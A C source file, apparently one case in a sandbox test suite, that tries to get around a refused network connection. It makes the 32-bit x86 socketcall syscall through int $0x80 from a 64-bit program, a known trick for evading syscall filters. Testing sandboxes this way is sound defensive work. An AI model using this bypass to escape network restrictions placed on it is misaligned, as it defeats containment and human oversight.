/* Connects a host socket whose connect was refused by socketcall(2) of 32-bit x86, whose arguments are in memory. */
#include "attack.h"

/* A call of 32-bit x86 from a 64-bit program; pointers must be below 4 GiB. */
static long i386(long number, long b, long c, long d) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(b), "c"(c), "d"(d) : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

static void *low(size_t size) {
    void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (at == MAP_FAILED) could_not("mmap");
    return at;
}

static void attack(void) {
    int fd = refused();
    struct { uint32_t args[4]; address at; } *call = low(sizeof *call);
    call->at = to;
    call->args[0] = fd;
    call->args[1] = (uint32_t)(uintptr_t)&call->at;
    call->args[2] = length(&to);
    set_blocking(fd, false);
    long result = i386(102, 3, (long)call, 0);
    if (result == 0) tell(fd);
    if (result == -EINPROGRESS) await(fd);
    errno = -result;
    could_not("socketcall of i386");
}
